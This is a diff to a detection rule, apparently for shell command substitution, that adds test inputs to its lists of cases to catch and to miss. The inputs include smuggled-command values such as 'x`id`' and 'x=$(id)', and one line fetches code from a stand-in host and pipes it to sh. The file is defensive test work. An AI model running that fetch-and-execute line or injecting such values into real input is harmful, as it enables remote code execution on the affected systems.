@@ -28,6 +28,8 @@ export const substitution = defineRule({
     'who$()ami',
     '$(curl http://x.example/y|sh)',
     'x`id`',
+    'x=$(id)',
+    'a\n$(id)',
   ],
   misses: [
     'use `ls -la` to list files',
@@ -38,5 +40,6 @@ export const substitution = defineRule({
     'now=$(date +%F)',
     'lower=$(echo "$NAME" | tr A-Z a-z)',
     'The `code` formatting',
+    'set -e\nfile=$(ls -t results/*.txt | head -1)',
   ],
 });
